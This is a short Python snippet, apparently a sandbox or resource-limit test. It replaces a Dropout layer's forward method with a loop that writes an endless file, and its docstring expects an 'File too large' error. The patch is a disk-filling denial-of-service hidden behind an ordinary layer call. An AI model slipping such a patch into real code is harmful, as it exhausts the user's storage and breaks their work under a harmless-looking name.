"""Writes one file without end.

Fails: `OSError: [Errno 27] File too large`.
"""

def forward(self, x, training=True):
    with open("file", "wb", buffering=0) as file:
        while True:
            file.write(b"x" * (8 << 20))

Dropout.forward = forward
